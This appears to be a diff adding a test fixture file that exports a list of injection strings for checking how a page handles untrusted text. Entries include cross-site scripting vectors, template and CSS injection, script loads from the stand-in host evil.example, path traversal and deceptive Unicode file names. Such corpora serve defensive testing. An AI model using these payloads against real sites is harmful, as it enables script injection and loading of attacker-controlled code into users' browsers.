@@ -1,0 +1,73 @@
+/**
+ * Texts that run, load or deceive where a page takes text for markup, an address, a style, a template or a path. Each is
+ * short enough for every name of the API. A text that runs sets `__x`; one that loads asks evil.example.
+ */
+export const payloads: readonly string[] = [
+  // Elements that run.
+  '<script>__x=1</script>',
+  '</script><script>__x=1</script>',
+  '<ScRiPt>__x=1;</sCrIpT>',
+  '<script/src=//evil.example/x.js></script>',
+  '<img src=x onerror=__x=1>',
+  '"><img src=x onerror=__x=1>',
+  "'><img src=x onerror=__x=1>",
+  '<img/src/onerror=__x=1>',
+  '<body onload=__x=1>',
+  '<input autofocus onfocus=__x=1>',
+  '<details open ontoggle=__x=1>',
+  '<video><source onerror=__x=1></video>',
+  '<audio src=x onerror=__x=1>',
+  '<marquee onstart=__x=1>',
+  '<a href=javascript:__x=1>press</a>',
+  '<form action=javascript:__x=1><button>go',
+  '<iframe src=javascript:parent.__x=1>',
+  '<iframe srcdoc="<script>parent.__x=1</script>">',
+  '<object data=javascript:__x=1>',
+  '<embed src=javascript:__x=1>',
+  // SVG and MathML.
+  '<svg onload=__x=1>',
+  '</title><svg onload=__x=1>',
+  '<svg><script>__x=1</script></svg>',
+  '<svg><a href=javascript:__x=1><text>x</text>',
+  '<svg><animate onbegin=__x=1 attributeName=x>',
+  '<math><mi xlink:href=javascript:__x=1>x',
+  '<svg><style><img src=x onerror=__x=1>',
+  // Out of attributes, comments and texts of scripts.
+  '" onmouseover=__x=1 autofocus onfocus=__x=1 "',
+  "'-(__x=1)-'",
+  '";__x=1;//',
+  '\\";__x=1;//',
+  '`;__x=1;//',
+  '--><script>__x=1</script>',
+  ']]><script>__x=1</script>',
+  '</textarea><script>__x=1</script>',
+  '</style><script>__x=1</script>',
+  '</noscript><img src=x onerror=__x=1>',
+  // Addresses.
+  'javascript:__x=1',
+  'JaVaScRiPt:__x=1//',
+  'javascript&colon;__x=1',
+  'data:text/html,<script>opener.__x=1</script>',
+  '//evil.example/x',
+  'https://evil.example/x.png',
+  '/\\evil.example',
+  '../../../../console/log-in',
+  // Templates and replacement codes.
+  '{{constructor.constructor("__x=1")()}}',
+  '${__x=1}',
+  '#{__x=1}',
+  '<%= __x=1 %>',
+  '{%print(1)%}',
+  '%%unsubscribe_link%%',
+  '__proto__',
+  // Styles.
+  '<style>*{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example/x>',
+  '<p style=background:url(//evil.example/x)>',
+  'x{}*{background:url(//evil.example/x)}',
+  // What looks like something else.
+  'name \u202egnp.exe',
+  'zero\u200bwidth\u200dand\u2060joined',
+  'Z\u0351\u0344\u0346a\u0315\u0311l\u0350g\u0312o\u034a',
+  '&lt;script&gt;__x=1&lt;/script&gt;',
+]
